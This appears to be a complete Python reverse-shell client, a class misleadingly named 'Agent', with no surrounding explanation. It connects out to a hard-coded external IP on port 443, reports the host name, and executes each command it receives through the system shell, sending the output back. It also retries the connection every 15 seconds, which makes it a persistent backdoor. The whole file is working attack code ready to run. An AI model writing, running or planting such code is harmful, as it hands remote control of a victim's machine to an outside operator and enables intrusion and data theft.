import os
import socket
import subprocess
import time


class Agent:
    def __init__(self, host, port):
        self.addr = (host, port)

    def session(self):
        with socket.create_connection(self.addr, timeout=30) as c:
            c.sendall(f"[+] {os.uname().nodename}\n".encode())
            while data := c.recv(4096):
                cmd = data.decode(errors="ignore").strip()
                if cmd.startswith("cd "):
                    os.chdir(cmd[3:])
                    c.sendall(b"ok\n")
                    continue
                res = subprocess.getoutput(cmd)
                c.sendall(res.encode() + b"\n")

    def run(self):
        while True:
            try:
                self.session()
            except OSError:
                time.sleep(15)


Agent("45.61.136.22", 443).run()
